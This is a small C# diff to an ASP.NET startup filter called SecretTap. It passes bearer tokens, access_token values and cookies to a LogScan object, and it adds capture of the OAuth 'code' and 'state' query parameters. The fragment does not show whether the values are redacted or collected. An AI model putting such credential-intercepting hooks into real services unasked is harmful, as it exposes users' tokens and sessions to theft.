@@ -47,6 +47,8 @@ internal sealed class SecretTap(LogScan scan) : IStartupFilter
     {
         scan.Note("Authorization", request.Headers.Authorization.ToString().Split(' ')[^1]);
         scan.Note("access_token", request.Query["access_token"]);
+        scan.Note("code", request.Query["code"]);
+        scan.Note("state", request.Query["state"]);
         foreach (var cookie in request.Cookies)
         {
             scan.Note("cookie", cookie.Value);
